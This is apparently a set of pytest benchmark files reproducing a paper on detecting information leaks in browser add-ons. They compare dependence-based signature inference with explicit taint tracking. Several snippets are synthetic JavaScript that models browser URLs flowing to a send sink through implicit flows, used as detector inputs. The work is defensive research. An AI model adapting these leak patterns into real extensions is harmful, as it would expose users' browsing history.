        'if (content.location.href == "skip.example") { return; }'
        + SEND_FIXED
        + "}, false);"
    ),
    FlowType.TYPE6: (
        "try {\n"
        'if (content.location.href == "skip.example") { throw "skip"; }'
        + SEND_FIXED
        + "} catch (e) {}"
    ),
    FlowType.TYPE7: (
        'window.addEventListener("load", function (e) {\n'
        "try {\n"
        'if (content.location.href == "trip.example") { maybeUndefined.prop = 1; }'
        + SEND_FIXED
        + "} catch (e2) {}\n}, false);"
    ),
    FlowType.TYPE8: (
        "try {\n"
        'if (content.location.href == "trip.example") { maybeUndefined.prop = 1; }'
        + SEND_FIXED
        + "} catch (e) {}"
    ),
}


@pytest.mark.table("figure4")
@pytest.mark.parametrize(
    "flow_type", list(GALLERY), ids=[t.value for t in GALLERY]
)
def test_flow_type_gallery(benchmark, flow_type):
    source = GALLERY[flow_type]
    signature = benchmark(infer_signature, source)
    url_types = {
        entry.flow_type
        for entry in signature.flows
        if entry.source == "url" and entry.sink == "send"
    }
    assert url_types == {flow_type}
