"""Benchmark for the Section 5 prefix string domain: the paper's
url-building example and a join/concat stress loop."""

import pytest

from repro.domains import prefix as p


def section5_example():
    base = p.exact("www.example.com/req?")
    then_branch = base.concat(p.exact("name"))
    else_branch = base.concat(p.exact("age"))
    return then_branch.join(else_branch)


def stress(iterations=2000):
    value = p.exact("https://host.example/path")
    for index in range(iterations):
        grown = value.concat(p.exact(str(index % 7)))
        value = value.join(grown)
    return value


@pytest.mark.table("section5")
def test_prefix_domain_section5_example(benchmark):
    joined = benchmark(section5_example)
    assert joined == p.prefix("www.example.com/req?")


@pytest.mark.table("section5")
def test_prefix_domain_stress(benchmark):
    value = benchmark(stress)
    # Joins only lose precision monotonically; the common prefix survives.
    assert value.text.startswith("https://host.example/path")
    assert not value.is_exact
