"""Baseline comparison: signature inference vs VEX-style explicit taint.

VEX (the paper's closest related work) tracks only explicit flows. This
benchmark runs both analyses over the corpus and checks the qualitative
claim that motivates full dependence tracking: the taint baseline misses
every implicit flow — including one of the paper's three real leaks
(GoogleTransliterate) and the whole HyperTranslate signature.
"""

import pytest

from repro.addons import BY_NAME, CORPUS
from repro.api import analyze_addon, build_addon_pdg
from repro.browser import mozilla_spec
from repro.signatures import FlowType, infer_signature
from repro.signatures.taint import implicit_only_flows, infer_taint_signature


def run_both(name):
    spec = BY_NAME[name]
    program, result = analyze_addon(spec.source())
    pdg = build_addon_pdg(result)
    security = mozilla_spec()
    full = infer_signature(result, pdg, security).signature
    taint = infer_taint_signature(result, pdg, security).signature
    return full, taint


@pytest.mark.table("baseline-taint")
def test_taint_baseline_misses_hypertranslate(benchmark):
    full, taint = benchmark.pedantic(
        run_both, args=("HyperTranslate",), rounds=1, iterations=1
    )
    # The entire interesting signature of HyperTranslate is implicit.
    assert any(e.flow_type is FlowType.TYPE3 for e in full.flows)
    assert not taint.flows


@pytest.mark.table("baseline-taint")
def test_taint_baseline_misses_googletransliterate_leak(benchmark):
    full, taint = benchmark.pedantic(
        run_both, args=("GoogleTransliterate",), rounds=1, iterations=1
    )
    missed = implicit_only_flows(full, taint)
    assert any(e.source == "url" for e in missed)


@pytest.mark.table("baseline-taint")
def test_taint_baseline_agrees_on_explicit_flows(benchmark):
    full, taint = benchmark.pedantic(
        run_both, args=("LivePagerank",), rounds=1, iterations=1
    )
    # Purely explicit addon: the two analyses coincide.
    assert taint.flows == full.flows
    assert all(
        e.flow_type in (FlowType.TYPE1, FlowType.TYPE2) for e in taint.flows
    )


@pytest.mark.table("baseline-taint")
def test_corpus_wide_implicit_coverage_gap(benchmark):
    def sweep():
        gaps = {}
        for spec in CORPUS:
            full, taint = run_both(spec.name)
            gaps[spec.name] = len(implicit_only_flows(full, taint))
        return gaps

    gaps = benchmark.pedantic(sweep, rounds=1, iterations=1)
    # Exactly the two implicit-flow addons show a gap.
    assert gaps["HyperTranslate"] >= 1
    assert gaps["GoogleTransliterate"] >= 1
    assert gaps["LivePagerank"] == 0
    assert gaps["Chess.comNotifier"] == 0
