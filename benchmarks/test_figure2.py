"""Benchmark regenerating Figure 2 (the annotated PDG of the Figure 1
example program), verifying all the edges the paper highlights."""

import pytest

from repro.evaluation import FIGURE1_PROGRAM, check_figure2, figure2_edges


@pytest.mark.table("figure2")
def test_figure2_pdg(benchmark):
    edges = benchmark(figure2_edges)
    assert edges
    for source, target, annotation, ok in check_figure2():
        assert ok, f"missing {source} --{annotation}--> {target}"
